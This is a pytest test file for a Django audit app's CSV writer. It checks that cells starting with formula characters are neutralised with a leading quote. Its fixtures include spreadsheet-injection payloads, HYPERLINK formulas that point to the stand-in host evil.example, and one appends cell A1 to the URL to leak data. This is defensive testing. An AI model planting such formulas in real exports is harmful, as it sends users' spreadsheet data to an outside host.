"""The one CSV writer: a spreadsheet opens every cell as text, never as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from audit.csv_writer import FORMULA_STARTS, csv_lines, csv_response, safe_cell
from audit.models import AuditEntry, Event, Tier
from audit.services import audit_event


def parse(lines: list[str]) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines), newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\0", "\r", "\n"], ids=repr)
def test_a_cell_starting_with_a_formula_character_gets_a_leading_quote(start: str) -> None:
    value = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert safe_cell(value) == "'" + value
    [[cell]] = parse(list(csv_lines([[value]])))
    assert cell == "'" + value


def test_the_list_covers_owasp_and_asvs() -> None:
    assert {"=", "+", "-", "@", "\t", "\0", "\r"} <= set(FORMULA_STARTS)


@pytest.mark.parametrize(
    "value", ["Key person", "a=b", "2026-11-30", "Ava's file", "", " =1+1 is text after a space"]
)
def test_other_cells_are_left_alone(value: str) -> None:
    assert safe_cell(value) == value


def test_none_and_numbers_are_written_as_text() -> None:
    assert parse(list(csv_lines([[None, 3, -4]]))) == [["", "3", "'-4"]]


def test_it_quotes_as_rfc_4180_says() -> None:
    lines = list(csv_lines([["plain", "a,b", 'say "hi"', "two\nlines"], ["x", "y", "z", "w"]]))
    assert lines[0] == 'plain,"a,b","say ""hi""","two\nlines"\r\n'
    assert lines[1] == "x,y,z,w\r\n"
    assert parse(lines) == [["plain", "a,b", 'say "hi"', "two\nlines"], ["x", "y", "z", "w"]]


def test_a_quoted_formula_is_still_neutralised() -> None:
    [line] = csv_lines([['=1+2,"x"']])
    assert line == '"\'=1+2,""x"""\r\n'


def test_the_response_streams_a_named_csv_file() -> None:
    response = csv_response([["a", "=b"]], filename="export.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="export.csv"'
    assert b"".join(response.streaming_content) == b"a,'=b\r\n"


@pytest.mark.django_db
def test_the_audit_export_neutralises_what_people_typed(client, world) -> None:
    audit_event(
        actor=world.manager,
        event=Event.VIEWED,
        obj=world.ava,
        child_id=world.ava.pk,
        tier=Tier.GENERAL,
        reason='=HYPERLINK("http://evil.example","Open")',
    )
    client.force_login(world.manager)
    response = client.get(reverse("audit_export"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    reasons = [row[8] for row in rows[2:] if len(row) > 8]
    assert '\'=HYPERLINK("http://evil.example","Open")' in reasons
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    assert AuditEntry.objects.filter(event=Event.EXPORTED).count() == 1
